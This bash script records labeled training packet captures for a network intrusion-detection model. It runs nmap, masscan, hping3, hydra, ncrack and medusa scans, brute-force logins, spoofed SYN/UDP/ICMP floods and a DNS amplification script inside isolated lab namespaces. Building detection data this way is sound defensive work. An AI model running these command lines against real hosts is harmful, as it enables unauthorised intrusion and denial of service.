#!/usr/bin/env bash
# Records the base model's lab TRAINING captures in models/lab/train/ with real tools, inside
# two network namespaces (atktr-a: attacker / client, atktr-v: victim / server) joined by one
# veth pair (198.51.100.0/24, TEST-NET-2) that this script creates and deletes. 192.0.2.0/24
# (TEST-NET-1) is routed from the attacker to the victim, which owns three of its addresses and
# never forwards: host sweeps of that network reach the capture point. Nothing touches the
# host's own interfaces. Every tool run is bounded (timeout, packet counts, rates); captures
# are taken on the victim side with dumpcap (snaplen 160: headers only, no payload kept)
# entered through `nsenter --net=/run/netns/NS`.
#
#   sudo models/lab/train/record.sh          # rewrites models/lab/train/*.pcapng + MANIFEST.tsv
#   sudo ONLY=sweep models/lab/train/record.sh   # re-records the captures whose name has "sweep"
#
# These are TRAINING captures: other tools, options, rates, ports and targets than the
# evaluation captures of models/lab/record.sh, which stay out of training. Never copy a
# command line of models/lab/record.sh here.
#
# Needs: iproute2, dumpcap, capinfos, nmap, nping, masscan, hping3, hydra, ncrack, medusa,
# iperf3, curl, ssh/sshd/scp, sshpass, openssl, dig, dnsmasq, python3, unshare, nsenter.
set -euo pipefail

OUT="$(cd "$(dirname "$0")" && pwd)"
A=atktr-a            # attacker / client namespace
V=atktr-v            # victim / server namespace
IF_A=atktra0
IF_V=atktrv0
A_IP=198.51.100.1
V_IP=198.51.100.2
A_MAC=02:00:c6:33:74:01
V_MAC=02:00:c6:33:74:02
WORK="$(mktemp -d /tmp/atktr.XXXXXX)"
PIDS=()

# Every background process is started as `nsenter ... CMD &` (nsenter execs CMD), so $! is the
# process itself and killing it by PID ends it.
cleanup() {
    for p in "${PIDS[@]:-}"; do
        [ -n "$p" ] && kill "$p" 2>/dev/null || true
    done
    sleep 0.3
    ip netns del "$A" 2>/dev/null || true
    ip netns del "$V" 2>/dev/null || true
    rm -rf "$WORK"
}
trap cleanup EXIT

[ "$(id -u)" = 0 ] || { echo "record.sh: needs root (network namespaces)" >&2; exit 1; }
for t in ip dumpcap capinfos nmap nping masscan hping3 hydra ncrack medusa iperf3 curl ssh scp sshd \
    sshpass ssh-keygen openssl dig dnsmasq python3 unshare nsenter; do
    command -v "$t" >/dev/null || { echo "record.sh: missing $t" >&2; exit 1; }
done
if ip netns list | grep -qE "^($A|$V)( |$)"; then
    echo "record.sh: namespace $A or $V exists (another run?)" >&2
    exit 1
fi

inA() { nsenter --net=/run/netns/$A -- "$@"; }
inV() { nsenter --net=/run/netns/$V -- "$@"; }

ip netns add "$A"
ip netns add "$V"
ip link add $IF_A netns "$A" type veth peer name $IF_V netns "$V"
# Fixed MACs so the captures are the same from run to run.
inA ip link set $IF_A address $A_MAC
inV ip link set $IF_V address $V_MAC
inA ip addr add $A_IP/24 dev $IF_A
inV ip addr add $V_IP/24 dev $IF_V
inA ip link set lo up
inV ip link set lo up
inA ip link set $IF_A up
inV ip link set $IF_V up
# Never forwarding (the default of a new namespace, made explicit).
inA sysctl -qw net.ipv4.ip_forward=0
inV sysctl -qw net.ipv4.ip_forward=0
# TEST-NET-1 lies behind the victim: three of its addresses answer, the rest are dropped there.
inA ip route add 192.0.2.0/24 via $V_IP
for h in 10 77 200; do inV ip addr add 192.0.2.$h/32 dev lo; done
# Reflectors for the amplification captures: 60 more addresses of the attacker side.
for h in $(seq 100 159); do inA ip addr add 198.51.100.$h/32 dev $IF_A; done
sleep 1

# ---- services in the victim namespace (all bounded by the namespace's lifetime)
mkdir -p /run/sshd "$WORK/www"
ssh-keygen -q -t ed25519 -N '' -f "$WORK/host_key" </dev/null
ssh-keygen -q -t ed25519 -N '' -f "$WORK/client_key" </dev/null
cp "$WORK/client_key.pub" "$WORK/authorized_keys"
chmod 600 "$WORK/authorized_keys"
# A shadow file of this script's own, bind-mounted over /etc/shadow in a private mount
# namespace of the sshd only: root's password there is the lab password below.
LAB_PW='Lab-pass-42'
printf 'root:%s:19700:0:99999:7:::\n' "$(openssl passwd -6 -salt atktrlab "$LAB_PW")" >"$WORK/shadow"
chmod 600 "$WORK/shadow"
sshd_conf() { # PORT MAXAUTHTRIES
    cat <<EOF
ListenAddress $V_IP
Port $1
HostKey $WORK/host_key
PermitRootLogin yes
AuthorizedKeysFile $WORK/authorized_keys
PasswordAuthentication yes
KbdInteractiveAuthentication no
UsePAM no
StrictModes no
MaxAuthTries $2
MaxStartups 30:30:60
PidFile $WORK/sshd.$1.pid
EOF
}
sshd_conf 22 4 >"$WORK/sshd_22"
sshd_conf 2222 6 >"$WORK/sshd_2222"
for p in 22 2222; do
    nsenter --net=/run/netns/$V -- unshare -m sh -c \
        "mount --bind '$WORK/shadow' /etc/shadow && exec /usr/sbin/sshd -D -f '$WORK/sshd_$p'" \
        >/dev/null 2>&1 &
    PIDS+=($!)
done
head -c 300000 /dev/urandom | base64 >"$WORK/www/big.txt"
head -c 40000 /dev/urandom | base64 >"$WORK/www/mid.txt"
echo '<html><body>lab train</body></html>' >"$WORK/www/index.html"
nsenter --net=/run/netns/$V -- python3 -m http.server 80 --bind $V_IP --directory "$WORK/www" >/dev/null 2>&1 &
PIDS+=($!)
nsenter --net=/run/netns/$V -- iperf3 -s -B $V_IP -p 5201 >/dev/null 2>&1 &
PIDS+=($!)
nsenter --net=/run/netns/$V -- dnsmasq --no-daemon --no-resolv --no-hosts --listen-address=$V_IP --bind-interfaces \
    --address=/lab.test/$V_IP --address=/files.lab.test/$V_IP --mx-host=lab.test,mail.lab.test,10 \
    --txt-record=lab.test,"v=lab1" --pid-file="$WORK/dnsmasq-v.pid" >/dev/null 2>&1 &
PIDS+=($!)

# A tiny FTP control server (login only: alice / secret; 530 and a 0.2 s delay otherwise,
# the connection closed after 3 failures) and an HTTP server behind basic authentication.
cat >"$WORK/ftpd.py" <<'EOF'
import socketserver, sys, time
class H(socketserver.StreamRequestHandler):
    def handle(self):
        w = lambda s: self.wfile.write((s + "\r\n").encode())
        w("220 lab FTP ready")
        user, fails = "", 0
        for raw in self.rfile:
            line = raw.decode(errors="replace").strip()
            cmd, _, arg = line.partition(" ")
            cmd = cmd.upper()
            if cmd == "USER":
                user = arg; w("331 Password required for " + arg)
            elif cmd == "PASS":
                if user == "alice" and arg == "secret":
                    w("230 User logged in")
                else:
                    time.sleep(0.2); fails += 1; w("530 Login incorrect.")
                    if fails >= 3:
                        return
            elif cmd == "SYST": w("215 UNIX Type: L8")
            elif cmd == "PWD": w('257 "/home/alice" is the current directory')
            elif cmd == "FEAT": w("211-Features:\r\n UTF8\r\n211 End")
            elif cmd in ("TYPE", "NOOP", "OPTS", "CWD"): w("200 OK")
            elif cmd == "QUIT": w("221 Goodbye."); return
            else: w("502 Command not implemented.")
class S(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True
S((sys.argv[1], int(sys.argv[2])), H).serve_forever()
EOF
cat >"$WORK/httpauth.py" <<'EOF'
import base64, http.server, sys
GOOD = "Basic " + base64.b64encode(b"alice:secret").decode()
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def log_message(self, *a): pass
    def do_GET(self):
        if self.headers.get("Authorization") == GOOD:
            body = b"<html><body>welcome alice</body></html>\n" * 20
            self.send_response(200)
        else:
            body = b"<html><body>401 Unauthorized</body></html>\n"
            self.send_response(401)
            self.send_header("WWW-Authenticate", 'Basic realm="lab admin"')
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
http.server.ThreadingHTTPServer((sys.argv[1], int(sys.argv[2])), H).serve_forever()
EOF
nsenter --net=/run/netns/$V -- python3 "$WORK/ftpd.py" $V_IP 21 >/dev/null 2>&1 &
PIDS+=($!)
nsenter --net=/run/netns/$V -- python3 "$WORK/httpauth.py" $V_IP 8080 >/dev/null 2>&1 &
PIDS+=($!)

# Reflectors (amplification): a dnsmasq on the attacker side answering on 60 addresses with
# large TXT answers; the queries come from the victim's own address (the capture keeps only
# what reaches the victim: the reflected answers and the victim's ICMP errors).
TXT=$(head -c 600 /dev/zero | tr '\0' 'r')
nsenter --net=/run/netns/$A -- dnsmasq --no-daemon --no-resolv --no-hosts --interface=$IF_A --except-interface=lo \
    --txt-record=big.amp.test,"${TXT:0:250}","${TXT:0:250}" --txt-record=big.amp.test,"${TXT:0:250}","${TXT:0:200}" \
    --txt-record=mid.amp.test,"${TXT:0:240}" --edns-packet-max=4096 --pid-file="$WORK/dnsmasq-a.pid" >/dev/null 2>&1 &
PIDS+=($!)
cat >"$WORK/dnsq.py" <<'EOF'
# dnsq.py NAME COUNT RATE REFLECTOR-PREFIX FIRST LAST: DNS TXT queries with EDNS0 (4096) for
# NAME, each from a fresh socket (a new source port), round-robin over the reflectors.
import random, socket, struct, sys, time
name, count, rate, prefix, first, last = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), sys.argv[4], int(sys.argv[5]), int(sys.argv[6])
rng = random.Random(20261204)
qname = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
opt = b"\0" + struct.pack(">HHIH", 41, 4096, 0, 0)
hosts = [f"{prefix}.{h}" for h in range(first, last + 1)]
t0 = time.monotonic()
for i in range(count):
    q = struct.pack(">HHHHHH", rng.randrange(65536), 0x0100, 1, 0, 0, 1) + qname + struct.pack(">HH", 16, 1) + opt
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(q, (hosts[i % len(hosts)], 53))
    s.close()
    delay = t0 + (i + 1) / rate - time.monotonic()
    if delay > 0:
        time.sleep(delay)
EOF
sleep 2

SSH_KEY=(-i "$WORK/client_key" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o ConnectTimeout=5)
SSH_PW=(-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no -o ConnectTimeout=5)
printf 'root\nadmin\noracle\nubuntu\npi\n' >"$WORK/users.txt"
printf '12345678\nPassw0rd\nadmin123\nroot\ndragon\nmonkey\nabc123\nwelcome\nsunshine\nLab-pass-41\n' >"$WORK/pw.txt"
printf 'alice\nbob\nftp\nanonymous\n' >"$WORK/ftpusers.txt"
printf 'alice1\n123456\nftp\npassword1\nqwerty12\nletmein1\nsecret1\n' >"$WORK/ftppw.txt"
printf 'admin\nalice\nmanager\n' >"$WORK/webusers.txt"
printf 'admin\nalice123\nchangeme\n1q2w3e\nsecret!\npass\ntest123\nnimda\n' >"$WORK/webpw.txt"

ROWS="$WORK/rows.tsv"
: >"$ROWS"
# record NAME CLASS ATTACKER EXPECTED SECONDS-MAX COMMAND...: capture on the victim side while
# COMMAND runs (bounded by timeout) in the attacker namespace (in the victim namespace when
# FROM=V), then wait for the last packets, stop the capture and add the manifest row. CAPF is an
# optional capture filter.
record() {
    local name=$1 class=$2 attacker=$3 expected=$4 max=$5
    shift 5
    if [ -n "${ONLY:-}" ] && [[ "$name" != *"$ONLY"* ]]; then return 0; fi
    local f="$OUT/$name.pcapng" ns=$A
    [ "${FROM:-A}" = V ] && ns=$V
    rm -f "$f"
    local filt=()
    [ -n "${CAPF:-}" ] && filt=(-f "$CAPF")
    nsenter --net=/run/netns/$V -- dumpcap -q -i $IF_V -s 160 "${filt[@]}" -a "duration:$((max + 6))" -w "$f" 2>/dev/null &
    local cap=$!
    PIDS+=($cap)
    sleep 1.5
    timeout "$max" nsenter --net=/run/netns/$ns -- "$@" >/dev/null 2>&1 || true
    sleep 2.5
    kill -INT "$cap" 2>/dev/null || true
    wait "$cap" 2>/dev/null || true
    chmod 644 "$f"
    local pk by du cmd
    pk=$(capinfos -T -r -c "$f" | cut -f2)
    by=$(capinfos -T -r -d "$f" | cut -f2)
    du=$(capinfos -T -r -u "$f" | cut -f2)
    cmd=$(printf '%s ' "$@" | tr '\t\n' '  ' | tr -s ' ' | sed "s|$WORK|\$WORK|g; s/ *$//")
    printf '%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\n' "$name.pcapng" "$class" "$expected" "$attacker" \
        "$pk" "$by" "$du" "SafeLink lab (models/lab/train/record.sh)" "$cmd" \
        "recorded for SafeLink in network namespaces (TEST-NET addresses), same licence as the repository" >>"$ROWS"
    echo "recorded $name: $pk packets, $by bytes"
}

V_RAND="spoofed random sources; victim $V_IP"

# ---------------------------------------------------------------- benign
record benign__labtr-ssh-key-sessions benign n/a "none (8 key-authenticated SSH sessions on ports 22 and 2222 running commands)" 90 \
    bash -c "for i in 1 2 3 4; do
        ssh ${SSH_KEY[*]} root@$V_IP 'id; cat /proc/cpuinfo | head -40; sleep 2'
        ssh ${SSH_KEY[*]} -p 2222 root@$V_IP 'ls -la /usr/bin | head -200; sleep 1'
        sleep 0.7; done"
record benign__labtr-ssh-password-sessions benign n/a "none (6 password-authenticated SSH sessions, sshpass, one interactive-like with a tty)" 90 \
    bash -c "for i in 1 2 3; do
        sshpass -p '$LAB_PW' ssh ${SSH_PW[*]} -p 2222 root@$V_IP 'uptime; df -h; sleep 1.5'
        sshpass -p '$LAB_PW' ssh ${SSH_PW[*]} -tt root@$V_IP 'echo hello; sleep 3; exit' </dev/null
        sleep 1; done"
record benign__labtr-scp-transfers benign n/a "none (scp uploads and downloads of 40-400 kB files)" 60 \
    bash -c "for i in 1 2 3; do
        scp ${SSH_KEY[*]} $WORK/www/big.txt root@$V_IP:$WORK/up\$i.txt
        scp ${SSH_KEY[*]} -P 2222 root@$V_IP:$WORK/www/mid.txt $WORK/down\$i.txt
        sleep 0.5; done"
record benign__labtr-curl-bursts benign n/a "none (curl: keep-alive bursts, parallel downloads, HEAD and 404, basic-auth logins that succeed)" 60 \
    bash -c "for i in 1 2 3 4 5; do
        curl -s -o /dev/null -o /dev/null -o /dev/null http://$V_IP/index.html http://$V_IP/mid.txt http://$V_IP/nothing.html
        curl -s -I -o /dev/null http://$V_IP/big.txt
        curl -s -o /dev/null http://$V_IP/big.txt & curl -s -o /dev/null http://$V_IP/mid.txt & wait
        curl -s -o /dev/null -u alice:secret http://$V_IP:8080/admin/
        sleep 0.8; done"
record benign__labtr-dns-mixed benign n/a "none (dig: A, MX, TXT, AAAA and NXDOMAIN queries over UDP, two over TCP)" 40 \
    bash -c "for i in \$(seq 1 8); do
        dig +tries=1 +time=2 @$V_IP files.lab.test A
        dig +tries=1 +time=2 @$V_IP lab.test MX
        dig +tries=1 +time=2 @$V_IP lab.test TXT
        dig +tries=1 +time=2 @$V_IP nothing\$i.example AAAA
        sleep 0.6; done
        dig +tcp +tries=1 +time=2 @$V_IP lab.test A; dig +tcp +tries=1 +time=2 @$V_IP lab.test TXT"
record benign__labtr-iperf3-tcp-parallel benign n/a "none (iperf3 TCP, 2 streams 4 s at 20 Mbit/s each, then 3 s reverse at 10 Mbit/s)" 30 \
    bash -c "iperf3 -c $V_IP -p 5201 -t 4 -P 2 -b 20M; sleep 1; iperf3 -c $V_IP -p 5201 -t 3 -R -b 10M"
record benign__labtr-iperf3-udp benign n/a "none (iperf3 UDP at moderate rates: 4 s at 2 Mbit/s, 3 s at 6 Mbit/s with 1000 B datagrams)" 30 \
    bash -c "iperf3 -c $V_IP -p 5201 -u -t 4 -b 2M; sleep 1; iperf3 -c $V_IP -p 5201 -u -t 3 -b 6M -l 1000"
record benign__labtr-ping-variants benign n/a "none (ping: 20 at 0.2 s, 6 of 1000 B, 10 at 1 s)" 40 \
    bash -c "ping -c 20 -i 0.2 $V_IP; ping -c 6 -s 1000 -i 0.5 $V_IP; ping -c 10 $V_IP"
record benign__labtr-ftp-logins benign n/a "none (6 successful FTP logins, python ftplib: USER/PASS/PWD/SYST/QUIT)" 40 \
    python3 -c "
import ftplib, time
for i in range(6):
    f = ftplib.FTP('$V_IP', timeout=5); f.login('alice', 'secret'); f.pwd(); f.sendcmd('SYST'); time.sleep(1.0 + i * 0.3); f.quit(); time.sleep(0.5)"

# ---------------------------------------------------------------- port scans
record portscan__labtr-nmap-connect-600 portscan $A_IP "port_scan (nmap -sT connect scan, ports 1-600, -T3)" 90 \
    nmap -n -Pn -sT -T3 -p 1-600 $V_IP
record portscan__labtr-nmap-fin-top300 portscan $A_IP "port_scan (nmap -sF FIN scan, top 300 ports, -T4)" 90 \
    nmap -n -Pn -sF -T4 --max-retries 1 --top-ports 300 $V_IP
record portscan__labtr-nmap-null-t2 portscan $A_IP "port_scan (nmap -sN NULL scan, ports 20-110, polite -T2)" 90 \
    nmap -n -Pn -sN -T2 --max-retries 0 -p 20-110 $V_IP
record portscan__labtr-nmap-xmas-t5 portscan $A_IP "port_scan (nmap -sX XMAS scan, ports 1000-1400, -T5)" 60 \
    nmap -n -Pn -sX -T5 --max-retries 0 -p 1000-1400 $V_IP
record portscan__labtr-nmap-ack-500 portscan $A_IP "port_scan (nmap -sA ACK scan, ports 1-500, -T4)" 60 \
    nmap -n -Pn -sA -T4 --max-retries 0 -p 1-500 $V_IP
record portscan__labtr-nmap-maimon-200 portscan $A_IP "port_scan (nmap -sM FIN/ACK scan, ports 1-200)" 60 \
    nmap -n -Pn -sM -T4 --max-retries 0 -p 1-200 $V_IP
record portscan__labtr-nmap-syn-srcport53 portscan $A_IP "port_scan (nmap -sS from source port 53, ports 2000-2600, -T3)" 90 \
    nmap -n -Pn -sS -T3 -g 53 --max-retries 0 -p 2000-2600 $V_IP
record portscan__labtr-nmap-udp-500-700 portscan $A_IP "udp port scan (nmap -sU ports 500-700, -T4, no retries)" 60 \
    nmap -n -Pn -sU -T4 --max-retries 0 -p 500-700 $V_IP
record portscan__labtr-masscan-1500-r400 portscan $A_IP "port_scan (masscan SYN, ports 1-1500 at 400 pps)" 30 \
    masscan $V_IP -p 1-1500 --rate 400 --seed 11 --wait 2 --adapter $IF_A --adapter-ip $A_IP --adapter-mac $A_MAC --router-mac $V_MAC
record portscan__labtr-masscan-fast-3000 portscan $A_IP "port_scan (masscan SYN, ports 3000-4999 at 3000 pps)" 30 \
    masscan $V_IP -p 3000-4999 --rate 3000 --seed 5 --wait 2 --adapter $IF_A --adapter-ip $A_IP --adapter-mac $A_MAC --router-mac $V_MAC
record portscan__labtr-masscan-udp-300 portscan $A_IP "udp port scan (masscan UDP ports 100-399 at 150 pps)" 30 \
    masscan $V_IP -pU:100-399 --rate 150 --seed 23 --wait 2 --adapter $IF_A --adapter-ip $A_IP --adapter-mac $A_MAC --router-mac $V_MAC
record portscan__labtr-hping3-scan-syn portscan $A_IP "port_scan (hping3 --scan SYN mode, ports 1-400)" 60 \
    hping3 --scan 1-400 -S $V_IP
record portscan__labtr-hping3-scan-xmas portscan $A_IP "port_scan (hping3 --scan with FIN+PSH+URG, ports 600-900)" 60 \
    hping3 --scan 600-900 -F -P -U $V_IP
record portscan__labtr-nping-fin-range portscan $A_IP "port_scan (nping FIN probes to ports 1-150, 40 pps)" 30 \
    nping --tcp --flags fin -p 1-150 --rate 40 -c 1 $V_IP

# ---------------------------------------------------------------- host sweeps (192.0.2.0/24 lies behind the victim)
record sweep__labtr-nmap-sn-24 sweep $A_IP "host_sweep (nmap -sn: ICMP echo, TCP SYN 443, TCP ACK 80, ICMP timestamp to 256 hosts)" 60 \
    nmap -n -sn -T4 --max-retries 0 192.0.2.0/24
record sweep__labtr-nmap-ps22-25 sweep $A_IP "host_sweep (nmap -sn -PS22,3389 TCP SYN ping of a /25)" 60 \
    nmap -n -sn -PS22,3389 -T4 --max-retries 0 192.0.2.0/25
record sweep__labtr-nmap-pu-pe sweep $A_IP "host_sweep (nmap -sn -PU53 -PE UDP and ICMP ping of a /25)" 60 \
    nmap -n -sn -PU53 -PE -T4 --max-retries 0 192.0.2.128/25
record sweep__labtr-nmap-pu-default sweep $A_IP "host_sweep (nmap -sn -PU: empty UDP datagrams to nmap's default port 40125 of a /25, default timing and retries)" 90 \
    nmap -n -sn -PU 192.0.2.0/25
record sweep__labtr-hping3-udp-rand-dest sweep $A_IP "host_sweep (hping3 -2 empty datagrams to port 161 of 300 random hosts of 192.0.2.x, new source port each)" 30 \
    hping3 -2 -p 161 --rand-dest -I $IF_A -c 300 -i u10000 192.0.2.x
record sweep__labtr-ping-loop sweep $A_IP "host_sweep (one ping -c 1 per host to 120 hosts, in parallel)" 30 \
    bash -c 'for i in $(seq 1 120); do ping -c 1 -W 1 192.0.2.$i & sleep 0.02; done; wait'
record sweep__labtr-nping-icmp-24 sweep $A_IP "host_sweep (nping ICMP echo to 256 hosts at 100 pps)" 30 \
    nping --icmp --icmp-type echo -c 1 --rate 100 192.0.2.0/24
record sweep__labtr-masscan-3ports sweep $A_IP "host_sweep (masscan SYN to ports 22, 80, 443 of 256 hosts at 500 pps)" 30 \
    masscan 192.0.2.0/24 -p 22,80,443 --rate 500 --seed 3 --wait 2 --adapter $IF_A --adapter-ip $A_IP --adapter-mac $A_MAC --router-mac $V_MAC
record sweep__labtr-hping3-rand-dest sweep $A_IP "host_sweep (hping3 ICMP echo to 300 random hosts of 192.0.2.x)" 30 \
    hping3 -1 --rand-dest -I $IF_A -c 300 -i u10000 192.0.2.x

# ---------------------------------------------------------------- SSH and login brute force
record sshbrute__labtr-hydra-t2-port2222 sshbrute $A_IP "ssh_brute_force (hydra -t 2 -W 1 on port 2222, 5 users x 10 passwords)" 110 \
    hydra -L "$WORK/users.txt" -P "$WORK/pw.txt" -t 2 -W 1 -I -s 2222 ssh://$V_IP
record sshbrute__labtr-hydra-t8-c0 sshbrute $A_IP "ssh_brute_force (hydra -t 8 -c 0.5 -e nsr, root x 13 passwords, port 22)" 110 \
    hydra -l root -P "$WORK/pw.txt" -e nsr -t 8 -I -c 0.5 ssh://$V_IP
record sshbrute__labtr-ncrack-normal sshbrute $A_IP "ssh_brute_force (ncrack -T normal, 5 users x 10 passwords, port 22)" 110 \
    ncrack -T normal -U "$WORK/users.txt" -P "$WORK/pw.txt" ssh://$V_IP:22
record sshbrute__labtr-ncrack-aggressive-2222 sshbrute $A_IP "ssh_brute_force (ncrack -T aggressive, cl=6, port 2222)" 110 \
    ncrack -T aggressive -g cl=6 -U "$WORK/users.txt" -P "$WORK/pw.txt" ssh://$V_IP:2222
record sshbrute__labtr-medusa-t3 sshbrute $A_IP "ssh_brute_force (medusa -M ssh -t 3, 5 users x 10 passwords, port 22)" 110 \
    medusa -M ssh -h $V_IP -U "$WORK/users.txt" -P "$WORK/pw.txt" -t 3
record sshbrute__labtr-medusa-2222-t1 sshbrute $A_IP "ssh_brute_force (medusa -M ssh -t 1 -n 2222, root x 10 passwords)" 110 \
    medusa -M ssh -h $V_IP -n 2222 -u root -P "$WORK/pw.txt" -t 1
record loginbrute__labtr-hydra-ftp loginbrute $A_IP "ftp_brute_force (hydra ftp -t 4, 4 users x 7 passwords)" 90 \
    hydra -L "$WORK/ftpusers.txt" -P "$WORK/ftppw.txt" -t 4 -I ftp://$V_IP
record loginbrute__labtr-medusa-ftp loginbrute $A_IP "ftp_brute_force (medusa -M ftp -t 2, 4 users x 7 passwords)" 90 \
    medusa -M ftp -h $V_IP -U "$WORK/ftpusers.txt" -P "$WORK/ftppw.txt" -t 2
record loginbrute__labtr-hydra-http-basic loginbrute $A_IP "http basic-auth brute force (hydra http-get -t 3, 3 users x 8 passwords, port 8080)" 90 \
    hydra -L "$WORK/webusers.txt" -P "$WORK/webpw.txt" -t 3 -I -s 8080 $V_IP http-get /admin/

# ---------------------------------------------------------------- SYN floods
record synflood__labtr-hping3-syn-ssh synflood $A_IP "syn_flood (hping3 -S to open port 22, new source port each SYN, 1500 SYN at ~3 kpps)" 30 \
    hping3 -S -p 22 -c 1500 -i u300 $V_IP
record synflood__labtr-hping3-syn-fixed-sport synflood $A_IP "syn_flood (hping3 -S from one source port to closed 8443, 1500 SYN at 2 kpps)" 30 \
    hping3 -S -s 33333 -k -p 8443 -c 1500 -i u500 $V_IP
record synflood__labtr-hping3-syn-randsrc-payload synflood "$V_RAND" "syn_flood (hping3 -S --rand-source to 443 with 64 B payload, 1200 SYN at ~6 kpps); victim $V_IP" 30 \
    hping3 -S -p 443 --rand-source -d 64 -w 512 -c 1200 -i u150 $V_IP
record synflood__labtr-nping-syn-http synflood $A_IP "syn_flood (nping --tcp --flags syn to port 80, 1000 SYN at 1500 pps)" 30 \
    nping --tcp --flags syn -p 80 --rate 1500 -c 1000 $V_IP
record synflood__labtr-hping3-syn-slow synflood $A_IP "syn_flood (hping3 -S to port 5201, 800 SYN at 300 pps)" 30 \
    hping3 -S -p 5201 -c 800 -i u3300 $V_IP

# ---------------------------------------------------------------- UDP floods
record udpflood__labtr-hping3-udp-big udpflood $A_IP "udp_flood (hping3 -2 one source port to closed 7777, 1000 datagrams of 1200 B at ~1.4 kpps)" 30 \
    hping3 -2 -s 5555 -k -p 7777 -d 1200 -c 1000 -i u700 $V_IP
record udpflood__labtr-hping3-udp-sport-inc udpflood $A_IP "udp_flood (hping3 -2 to port 80, empty datagrams, new source port each, 2000 at 5 kpps)" 30 \
    hping3 -2 -p 80 -c 2000 -i u200 $V_IP
record udpflood__labtr-hping3-udp-small-fast udpflood $A_IP "udp_flood (hping3 -2 one source port to 1900, 1500 datagrams of 32 B at 10 kpps)" 30 \
    hping3 -2 -s 41000 -k -p 1900 -d 32 -c 1500 -i u100 $V_IP
record udpflood__labtr-nping-udp udpflood $A_IP "udp_flood (nping --udp to port 5060, 1200 datagrams of 700 B at 2000 pps)" 30 \
    nping --udp -p 5060 --data-length 700 --rate 2000 -c 1200 $V_IP
record udpflood__labtr-hping3-udp-randsrc udpflood "$V_RAND" "udp_flood (hping3 -2 --rand-source to port 27015, 1000 datagrams of 120 B at ~3 kpps); victim $V_IP" 30 \
    hping3 -2 -p 27015 --rand-source -d 120 -c 1000 -i u330 $V_IP

# ---------------------------------------------------------------- ICMP floods
record icmpflood__labtr-hping3-icmp-big icmpflood $A_IP "icmp_flood (hping3 -1, 1200 echo of 1028 B at ~3 kpps)" 30 \
    hping3 -1 -d 1000 -c 1200 -i u300 $V_IP
record icmpflood__labtr-ping-flood icmpflood $A_IP "icmp_flood (ping -f -c 1500, 64 B)" 30 \
    ping -f -c 1500 $V_IP
record icmpflood__labtr-ping-flood-1400 icmpflood $A_IP "icmp_flood (ping -f -c 1000 -s 1400)" 30 \
    ping -f -c 1000 -s 1400 $V_IP
record icmpflood__labtr-ping-flood-parallel icmpflood $A_IP "icmp_flood (4 parallel ping -f -c 400 -s 200)" 30 \
    bash -c "for i in 1 2 3 4; do ping -f -c 400 -s 200 $V_IP & done; wait"
record icmpflood__labtr-nping-icmp-slow icmpflood $A_IP "icmp_flood (nping --icmp echo, 800 of 228 B at 400 pps)" 30 \
    nping --icmp --icmp-type echo --data-length 200 --rate 400 -c 800 $V_IP
record icmpflood__labtr-hping3-icmp-randsrc icmpflood "$V_RAND" "icmp_flood (hping3 -1 --rand-source, 1000 echo of 100 B at 2 kpps); victim $V_IP" 30 \
    hping3 -1 --rand-source -d 100 -c 1000 -i u500 $V_IP

# ---------------------------------------------------------------- amplification (reflected DNS answers to the victim)
CAPF="not udp dst port 53" FROM=V record amplification__labtr-dns-txt-reflect amplification "reflectors (60); victim $V_IP" \
    "dns amplification: ~1.1 kB EDNS TXT answers from 60 reflectors to the victim, 1200 at 1000/s (queries not captured); victim $V_IP" 30 \
    python3 "$WORK/dnsq.py" big.amp.test 1200 1000 198.51.100 100 159
CAPF="not udp dst port 53" FROM=V record amplification__labtr-dns-txt-reflect-few amplification "reflectors (8); victim $V_IP" \
    "dns amplification: ~300 B TXT answers from 8 reflectors to the victim, 1200 at 400/s (queries not captured); victim $V_IP" 30 \
    python3 "$WORK/dnsq.py" mid.amp.test 1200 400 198.51.100 100 107

HEAD='file	class	expected_detection	attacker_ip_or_mac	packets	bytes	duration_s	source_repo	source_path	license_note'
if [ -z "${ONLY:-}" ] || [ ! -f "$OUT/MANIFEST.tsv" ]; then
    { echo "$HEAD"; cat "$ROWS"; } >"$OUT/MANIFEST.tsv"
else
    # Replace the re-recorded rows, keep the others (in their order).
    python3 - "$OUT/MANIFEST.tsv" "$ROWS" <<'EOF'
import sys
man, rows = sys.argv[1], sys.argv[2]
new = {l.split("\t")[0]: l for l in open(rows) if l.strip()}
out = []
for l in open(man):
    f = l.split("\t")[0]
    out.append(new.pop(f, l))
out.extend(new.values())
open(man, "w").write("".join(out))
EOF
fi
echo "done: $OUT"
